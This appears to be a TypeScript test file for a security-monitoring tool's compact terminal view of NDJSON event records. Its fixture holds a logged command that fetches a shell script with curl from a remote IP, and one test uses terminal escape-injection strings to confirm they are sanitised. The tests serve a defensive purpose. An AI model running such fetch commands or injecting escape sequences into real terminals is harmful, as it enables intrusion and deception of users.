// run --format compact: the stdout view choice (explicit, terminal default, files stay NDJSON) and the
// sink that renders NDJSON batches with the `view` renderer; control characters never reach the terminal.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compactViewOf } from '../src/cli/run-format.js';
import { CompactSink } from '../src/output/compact-sink.js';
import { formatCompact, printable } from '../src/view/compact.js';
import type { NdjsonSink } from '../src/output/sink.js';

const STDOUT = { output: { type: 'stdout' as const, format: 'json' as const } };
const FILE = { output: { type: 'file' as const, format: 'json' as const, path: '/tmp/x' } };

test('compactViewOf: NDJSON by default; auto is compact on a terminal only, never for files; compact forces it', () => {
  assert.equal(compactViewOf(undefined, STDOUT, true, {}), null, 'run without --format: NDJSON even on a terminal');
  assert.deepEqual(compactViewOf('auto', STDOUT, true, {}), { color: true });
  assert.deepEqual(compactViewOf('auto', STDOUT, true, { NO_COLOR: '1' }), { color: false });
  assert.equal(compactViewOf('auto', STDOUT, false, {}), null, 'a pipe gets NDJSON');
  assert.equal(compactViewOf('auto', FILE, true, {}), null, 'a file output stays NDJSON on a terminal');
  assert.equal(compactViewOf('ndjson', STDOUT, true, {}), null);
  assert.deepEqual(compactViewOf('compact', STDOUT, false, {}), { color: false }, 'compact into a pipe, without colour');
  assert.throws(() => compactViewOf('compact', FILE, true, {}), /--format compact shows records on stdout; with \[output\] type = "file" the file stays NDJSON/);
  assert.throws(() => compactViewOf('json', STDOUT, true, {}), /--format must be ndjson, compact or auto, got 'json'/);
});

/** A sink that keeps what it was given. */
class Capture implements NdjsonSink {
  readonly description = 'stdout';
  chunks: string[] = [];
  flushed = 0;
  closed = 0;
  write(chunk: string | Uint8Array): void {
    this.chunks.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
  }
  flush(): void {
    this.flushed++;
  }
  close(): void {
    this.closed++;
  }
}

const EXEC = {
  event_type: 'process_start',
  time: '2026-03-01T10:00:02.000123456Z',
  pid: 1234,
  exe_path: '/usr/bin/curl',
  argv: ['curl', '-s', 'http://203.0.113.7/x.sh'],
  cwd: '/root',
};
const ALERT = {
  event_type: 'alert',
  time: '2026-03-01T10:00:02.002Z',
  pid: 1234,
  exe_path: '/usr/bin/curl',
  severity: 'high',
  rule_id: 'R1',
  rule_name: 'n',
  source_event_type: 'network_connect',
  summary: 's',
};

test('CompactSink: one view line per NDJSON line, one write per batch, strings and bytes', () => {
  const inner = new Capture();
  const sink = new CompactSink(inner, false);
  assert.equal(sink.description, 'stdout (compact view)');
  const batch = `${JSON.stringify(EXEC)}\n${JSON.stringify(ALERT)}\n`;
  sink.write(batch);
  sink.write(Buffer.from(batch, 'utf8'));
  assert.equal(inner.chunks.length, 2);
  const expected = `${formatCompact(EXEC, { color: false })}\n${formatCompact(ALERT, { color: false })}\n`;
  assert.equal(inner.chunks[0], expected);
  assert.equal(inner.chunks[1], expected);
  assert.equal(
    inner.chunks[0]!.split('\n')[0],
    '2026-03-01T10:00:02.000Z exec    1234 /usr/bin/curl: curl -s http://203.0.113.7/x.sh (cwd /root)',
  );
  sink.flush();
  sink.close();
  assert.equal(inner.flushed, 1);
  assert.equal(inner.closed, 1);
});

test('CompactSink: colour highlights alerts; a line that is not JSON is shown as is', () => {
  const inner = new Capture();
  new CompactSink(inner, true).write(`${JSON.stringify(ALERT)}\nnot json\n`);
  const [alertLine, other] = inner.chunks[0]!.split('\n');
  assert.match(alertLine!, /^\u001b\[1m\u001b\[31m.*ALERT .*\[high\] R1/);
  assert.equal(other, 'not json');
});

test('compact view escapes control characters from records (no terminal escape injection)', () => {
  const hostile = { event_type: 'file_open', time: '2026-03-01T10:00:02Z', pid: 7, comm: 'x\u001b]0;owned\u0007', filename: '/tmp/\u001b[2J\r\n\u009bboom' };
  const line = formatCompact(hostile, { color: false });
  assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f]/);
  assert.equal(line, '2026-03-01T10:00:02.000Z open    7 [x\\x1b]0;owned\\x07]: opened /tmp/\\x1b[2J\\x0d\\x0a\\x9bboom');
  assert.equal(printable('a\tb\u007f'), 'a\\x09b\\x7f');
});
